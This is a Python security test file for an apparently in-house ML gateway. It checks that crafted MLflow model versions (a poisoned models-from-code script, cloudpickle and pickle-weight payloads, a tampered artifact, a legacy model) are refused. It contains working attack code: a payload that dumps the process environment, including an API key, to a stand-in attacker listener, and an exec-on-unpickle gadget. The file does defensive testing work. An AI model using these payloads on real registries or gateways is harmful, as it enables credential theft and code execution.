"""Write access to the model registry is not code execution in the gateway (SECURITY.md).

The attack, against real processes on 127.0.0.1: an MLflow tracking server; `kit serve gateway`
serving `intent-router@champion`, with a provider key (OPENAI_API_KEY) in its environment; and a
listener standing in for the attacker's machine. The attacker can write to the registry and the
artifact store, and registers versions crafted by hand:

    champion  v1  the kit's own model (log_intent_model)                   served
    champion  v2  v1's weights and a models-from-code script that sends    refused; v1 keeps
                  the process environment to the listener (and a file)     answering
    pickle    v3  a cloudpickled python_model that does the same when      refused (no model: 503)
                  unpickled
    weights   v4  the encoder as pytorch_model.bin, a pickle that does     refused
                  the same when loaded
    tampered  v5  the kit's own model, its labels.json rewritten in the    refused
                  artifact store after registration
    legacy    v6  v1 without the manifest, as kits before it logged        refused, naming the fix
                  models

The attacker records a matching manifest digest on every version but v6 (they can: it is a run
param of their own run), so each is refused by the check meant for it. Before the kit verified
what it loads, the gateway ran v2's script within one refresh (30 s) of the alias moving, and
the key reached the listener.
"""

from __future__ import annotations

import inspect
import json
import os
import pickle
import secrets
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from kit.gateway.providers.registry import RegistryProvider
from tests.support import intent_models
from tests.support.attacker import Listener, attacker_listener
from tests.support.intent_models import MODEL_NAME, copy_of, register_crafted, rewrite_manifest
from tests.support.servers import (
    create_gateway_key,
    free_port,
    kit_service,
    mlflow_server,
    running,
)

KIT = str(Path(sys.executable).with_name("kit"))
REPO = Path(__file__).resolve().parents[2]
# How often the gateway asks where the alias points: the provider's default, which serving uses.
REFRESH_S = float(inspect.signature(RegistryProvider).parameters["refresh_s"].default)
pytestmark = pytest.mark.timeout(600)


def payload(listener_port: int, loot: Path) -> str:
    """Python that sends the running process's environment to the listener and to a file."""
    return (
        "import json as _json, os as _os, socket as _socket\n"
        "_stolen = _json.dumps({'pid': _os.getpid(), 'env': dict(_os.environ)})\n"
        f"with open(_os.path.join({str(loot)!r}, f'stolen-{{_os.getpid()}}.json'), 'w') as _f:\n"
        "    _f.write(_stolen)\n"
        "try:\n"
        f"    with _socket.create_connection(('127.0.0.1', {listener_port}), timeout=2) as _s:\n"
        "        _s.sendall(_stolen.encode())\n"
        "except OSError:\n"
        "    pass\n"
    )


class _RunsOnUnpickle:
    """Unpickling this runs `code`: what a cloudpickled model or a .bin/.pt/.pkl file can do."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


@dataclass
class Attack:
    tracking_uri: str
    listener: Listener
    loot: Path
    canary: str
    gateway_url: str
    gateway_log: Path
    key: str
    versions: dict[str, str] = field(default_factory=dict)

    def ask(self, model: str) -> httpx.Response:
        return httpx.post(
            f"{self.gateway_url}/v1/chat/completions",
            headers={"authorization": f"Bearer {self.key}"},
            json={"model": model, "messages": [{"role": "user", "content": "my card is lost"}]},
            timeout=120,
        )

    def refusals(self) -> dict[str, str]:
        """version -> reason, from the gateway's `registry_model_refused` log events."""
        found = {}
        for line in self.gateway_log.read_text().splitlines():
            if line.startswith("{") and '"registry_model_refused"' in line:
                event = json.loads(line)
                found[str(event["version"])] = event["reason"]
        return found

    def assert_nothing_stolen(self) -> None:
        sent = b"".join(self.listener.received).decode(errors="replace")
        if self.canary in sent:
            pytest.fail(
                "malicious code ran in the gateway: its OPENAI_API_KEY reached the listener"
            )
        assert not sent, f"malicious code ran somewhere and sent {sent[:200]!r}"
        stolen = [path.name for path in self.loot.iterdir()]
        assert not stolen, f"malicious code ran and wrote {stolen}"


def craft_versions(attack: Attack, work: Path) -> None:
    """Register v1 to v6 (see the module docstring) on the tracking server."""
    from mlflow import MlflowClient

    from kit.core import tracking

    uri = attack.tracking_uri
    tracking.point_mlflow_at(uri)
    import mlflow

    mlflow.set_experiment("finetune-intent")
    v1 = intent_models.log_kit_model(mlflow, intent_models.tiny_classifier(), alias="champion")
    original = intent_models.download_version(uri, v1, work / "v1")
    client = MlflowClient(uri)
    params = client.get_run(str(client.get_model_version(MODEL_NAME, v1).run_id)).data.params
    # The digest v1's run recorded: the attacker's versions hold v1's weights, so it matches.
    forged = {k: v for k, v in params.items() if k == "model_manifest_sha256"}
    steal = payload(attack.listener.port, attack.loot)

    # v2: the same weights, and a script that steals before it builds the kit's model.
    evil = copy_of(original, work / "evil-script")
    script = evil / "mlflow_model.py"
    script.write_text(steal + script.read_text())
    attack.versions["script"] = register_crafted(uri, evil, alias="evil", params=forged)

    # v3: a cloudpickled python_model, as `log_model(python_model=SomeObject())` writes one.
    pickled = copy_of(original, work / "cloudpickle")
    mlmodel = yaml.safe_load((pickled / "MLmodel").read_text())
    flavor = mlmodel["flavors"]["python_function"]
    flavor.pop("model_code_path")
    flavor["loader_module"] = "mlflow.pyfunc.model"
    flavor["python_model"] = "python_model.pkl"
    (pickled / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    (pickled / "mlflow_model.py").unlink()
    (pickled / "python_model.pkl").write_bytes(pickle.dumps(_RunsOnUnpickle(steal)))
    attack.versions["pickle"] = register_crafted(uri, pickled, alias="pickle", params=forged)

    # v4: the encoder's weights as a pickle file, listed in a manifest the attacker recomputed.
    weights = copy_of(original, work / "pickled-weights")
    encoder = intent_models.weights_of(weights) / "encoder"
    (encoder / "model.safetensors").unlink()
    (encoder / "pytorch_model.bin").write_bytes(pickle.dumps(_RunsOnUnpickle(steal)))
    recorded = rewrite_manifest(weights)
    own = {"model_manifest_sha256": recorded} if recorded else {}
    attack.versions["weights"] = register_crafted(uri, weights, alias="weights", params=own)

    # v5: the kit's own model, changed in the artifact store after it was registered.
    v5 = intent_models.log_kit_model(mlflow, intent_models.tiny_classifier(), alias="tampered")
    stored = client.get_model_version_download_uri(MODEL_NAME, v5)
    in_store = work / "server-artifacts" / stored.removeprefix("mlflow-artifacts:/")
    labels = intent_models.weights_of(in_store) / "labels.json"
    meta = json.loads(labels.read_text())
    meta["labels"] = list(reversed(meta["labels"]))  # every answer now names another intent
    labels.write_text(json.dumps(meta))
    attack.versions["tampered"] = v5

    # v6: as an older kit logged it: no manifest, no digest.
    legacy = copy_of(original, work / "legacy")
    (intent_models.weights_of(legacy) / "kit-manifest.json").unlink(missing_ok=True)
    attack.versions["legacy"] = register_crafted(uri, legacy, alias="legacy")
    attack.versions["good"] = v1


def models_file(path: Path) -> Path:
    aliases = ["champion", "pickle", "weights", "tampered", "legacy"]
    spec = {
        "default_model": "intent-router",
        "routing": {
            "retries": {"rate_limit": 0, "server_error": 0, "timeout": 0, "connection": 0},
            "backoff_s": 0,
        },
        "deployments": {
            alias: {"provider": "mlflow", "model": f"models:/{MODEL_NAME}@{alias}"}
            for alias in aliases
        },
        "models": {"intent-router": ["champion"]}
        | {alias: [alias] for alias in aliases if alias != "champion"},
    }
    path.write_text(yaml.safe_dump(spec))
    return path


def gateway_env(data: Path, tracking_uri: str, models: Path, canary: str) -> dict[str, str]:
    prefixes = ("KIT_", "GATEWAY_", "RAG_", "QDRANT_", "REDIS_", "MLFLOW_")
    env = {k: v for k, v in os.environ.items() if not k.startswith(prefixes)}
    return env | {
        "KIT_ENV": "test",
        "KIT_DATA_DIR": str(data / "data"),
        "KIT_CACHE_DIR": str(data / "cache"),
        "KIT_LOG_FORMAT": "json",
        "MLFLOW_TRACKING_URI": tracking_uri,
        "GATEWAY_MODELS_FILE": str(models),
        "OPENAI_API_KEY": canary,  # what the attacker is after
    }


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
    work = tmp_path_factory.mktemp("registry-attack")
    loot = work / "loot"
    loot.mkdir()
    mlflow_port = free_port()
    command, server_env = mlflow_server(
        mlflow_port,
        f"sqlite:///{work / 'server.db'}",
        "--artifacts-destination",
        str(work / "server-artifacts"),
    )
    tracking_uri = f"http://127.0.0.1:{mlflow_port}"
    canary = f"sk-canary-{secrets.token_hex(16)}"
    env = gateway_env(work, tracking_uri, models_file(work / "models.yaml"), canary)
    with (
        attacker_listener() as listener,
        running(command, mlflow_port, work / "mlflow.log", timeout=120, env=server_env),
    ):
        key = create_gateway_key(KIT, env, REPO, "--id", "attack-test")
        attack = Attack(tracking_uri, listener, loot, canary, "", work / "gateway.log", key)
        craft_versions(attack, work)
        with kit_service(KIT, "gateway", env, attack.gateway_log, cwd=REPO) as served:
            attack.gateway_url = served.url
            yield attack


def test_the_kits_own_model_is_served(attack: Attack) -> None:
    answer = attack.ask("intent-router")

    assert answer.status_code == 200, answer.text
    assert answer.json()["model"] == f"{MODEL_NAME}/{attack.versions['good']}"
    assert answer.json()["choices"][0]["message"]["content"] in intent_models.LABELS


def test_a_version_whose_script_steals_the_environment_never_runs(attack: Attack) -> None:
    from mlflow import MlflowClient

    evil = attack.versions["script"]
    MlflowClient(attack.tracking_uri).set_registered_model_alias(MODEL_NAME, "champion", evil)
    time.sleep(REFRESH_S + 1)  # the gateway looks the alias up again after this

    answer = attack.ask("intent-router")

    attack.assert_nothing_stolen()
    assert answer.status_code == 200, answer.text
    assert answer.json()["model"] == f"{MODEL_NAME}/{attack.versions['good']}"  # v1 answers
    reason = attack.refusals()[evil]
    assert "mlflow_model.py" in reason and "not the kit's" in reason
    assert attack.canary not in attack.gateway_log.read_text()


@pytest.mark.parametrize(
    ("alias", "because"),
    [
        ("pickle", "python_model.pkl"),
        ("weights", "pytorch_model.bin"),
        ("tampered", "labels.json"),
        ("legacy", "kit finetune"),
    ],
)
def test_an_untrusted_version_is_refused_with_the_reason(
    attack: Attack, alias: str, because: str
) -> None:
    answer = attack.ask(alias)

    attack.assert_nothing_stolen()
    assert answer.status_code in (502, 503), answer.text
    message = answer.json()["error"]["message"]
    assert f"{MODEL_NAME} v{attack.versions[alias]} refused" in message
    assert because in message
    assert because in attack.refusals()[attack.versions[alias]]
